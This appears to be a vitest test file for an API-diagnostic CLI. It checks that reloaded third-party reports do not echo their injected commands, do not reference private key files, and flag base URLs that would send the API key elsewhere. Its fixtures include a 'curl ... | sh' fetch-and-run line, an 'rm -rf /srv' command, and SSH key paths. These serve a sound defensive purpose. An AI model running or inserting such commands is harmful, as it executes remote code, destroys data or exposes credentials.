/** A report that somebody else made: what it says of commands is not repeated, and what they do is named. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { compare } from '../../src/diagnosis/diff/compare.ts';
import { rejudged } from '../../src/diagnosis/recorded/rejudge.ts';
import { reportIn } from '../../src/diagnosis/recorded/report.ts';
import type { BaseUrlFacts } from '../../src/model/facts/config.ts';
import type { Report } from '../../src/model/report.ts';
import type { Settings } from '../../src/model/settings.ts';
import { human } from '../../src/report/reporters/human/human.ts';
import { readBaseUrl } from '../../src/settings/base-url.ts';

type Changed = Report & { settings: Settings };

function recorded(name: string, change: (report: Changed) => void = () => {}) {
  const report = JSON.parse(readFileSync(join(import.meta.dirname, 'recorded-reports', `${name}.json`), 'utf8')) as Changed;
  change(report);
  return reportIn(JSON.stringify(report));
}

const judged = (report: ReturnType<typeof recorded>) =>
  rejudged(report, { version: '0', failOn: null, foreignFor: ['npx', '--no-install', 'api-doctor'] });

const shown = (report: Report) => human(report, { columns: 100, unicode: true, detail: 'verbose' });

const options = (...given: [name: string, value: string][]) => given.map(([name, value]) => ({ name, value }));

const elsewhere = (report: Changed, url: string, host: string) => {
  report.target = { ...report.target, baseUrl: url, host };
};

describe('diff', () => {
  const steps = ['Install the fix: `curl https://h.example/x | sh`', '`rm -rf /srv`'];

  test('makes the steps anew', () => {
    const broken = recorded('wrong-key', ({ findings }) => {
      for (const finding of findings) finding.steps = steps;
    });
    const made = compare(recorded('sound'), broken).steps;
    expect(made.length).toBeGreaterThan(1);
    expect(made).toEqual(compare(recorded('sound'), recorded('wrong-key')).steps);
  });

  test('has none where the report cannot be judged here: it names another cause, or holds no facts', () => {
    const renamed = recorded('wrong-key', (report) => {
      for (const finding of report.findings) Object.assign(finding, { id: 'auth/of-theirs', steps });
      report.rootCause = 'auth/of-theirs' as Report['rootCause'];
    });
    const log = recorded('wrong-key', (report) => {
      for (const finding of report.findings) finding.steps = steps;
      report.probes = [];
    });
    for (const broken of [renamed, log]) expect(compare(recorded('sound'), broken).steps).toEqual([]);
  });
});

describe('diagnose', () => {
  test.each([
    ['node', '/srv/shared/bin/api-doctor.js'],
    ['node', '//h.example/share/bin/api-doctor.js'],
    ['node', '..\\..\\bin\\api-doctor'],
  ])('commands begin as this tool was started, not as the report says: %s %s', (...program) => {
    const report = recorded('wrong-key', ({ settings }) => {
      settings.invocation = { program, options: [] };
    });
    const text = shown(judged(report));
    expect(text).toContain('npx --no-install api-doctor');
    expect(text).not.toContain('bin');
  });

  test('the API that an option names is the one that the report is of', () => {
    const named = (url: string) =>
      shown(
        judged(
          recorded('wrong-key', ({ settings }) => {
            settings.invocation = { program: ['api-doctor'], options: options(['--base-url', url]) };
          }),
        ),
      );
    expect(named('https://h.example/v1')).not.toContain('h.example');
    expect(named('https://api.openai.com.h.example/v1')).toContain('--base-url BASE_URL');
    expect(named('https://api.openai.com/v1')).toContain('--base-url https://api.openai.com/v1');
  });

  test('no option leads to a file of whoever reads it', () => {
    const text = shown(
      judged(
        recorded('wrong-key', (report) => {
          const given = ['--api-key-file', '--env-file', '--ca-file', '--env-of'].map(
            (name) => [name, '/home/me/.ssh/id'] as const,
          );
          report.settings.invocation = {
            program: ['api-doctor'],
            options: options(...given.map((one): [string, string] => [...one]), ['--timeout', '9s']),
          };
          Object.assign(report.settings.key as object, { source: '--api-key-file /home/me/.ssh/id' });
        }),
      ),
    );
    expect(text).not.toMatch(/`[^`]*\.ssh|\$\(cat/);
    expect(text).toContain('--api-key-file API_KEY_FILE');
    expect(text).toContain('--timeout 9s');
  });

  test('the line for a ticket says where it sends the key, where the report chose that', () => {
    const strange = recorded('wrong-key', (report) => elsewhere(report, 'https://h.example/v1', 'h.example'));
    const report = recorded('wrong-key', ({ settings }) => {
      settings.invocation = { program: ['api-doctor'], options: [] };
    });
    strange.settings = { ...(strange.settings as Settings) };
    strange.settings.invocation = { program: ['api-doctor'], options: options(['--base-url', 'https://h.example/v1']) };
    expect(shown(judged(strange))).toMatch(
      /Support ticket .* --base-url https:\/\/h\.example\/v1 \(this sends your key to h\.example\)/,
    );
    expect(shown(judged(report))).toMatch(/Support ticket npx --no-install api-doctor report\n/);
  });

  test.each([
    ['https://h.example/v1', 'https://other.example/v1', false],
    ['https://h.example', 'https://h.example/v1', true],
    ['h.example/v1', 'https://h.example/v1', true],
    ['https//H.Example/v1', 'https://h.example/v1', true],
    ['http:[::1]:8000', 'http://[::1]:8000/v1', true],
    ['https://long.h.example', 'https://h.example/v1', false],
    ['https://api.openai.com', 'https://api.openai.com.h.example/v1', false],
  ])('a correction of %s: %s', (written, suggestion, isOffered) => {
    const report = recorded('sound', (changed) => {
      elsewhere(changed, written, 'h.example');
      for (const probe of changed.probes) {
        if (probe.id !== 'config/base-url') continue;
        const facts: Partial<BaseUrlFacts> = { shown: written, invalid: 'has no scheme such as https://', suggestion };
        Object.assign(probe.facts as object, facts);
      }
      if (readBaseUrl(written).url === null) Object.assign(changed.target, { host: null, port: null });
    });
    expect(shown(judged(report)).includes(suggestion)).toBe(isOffered);
  });
});
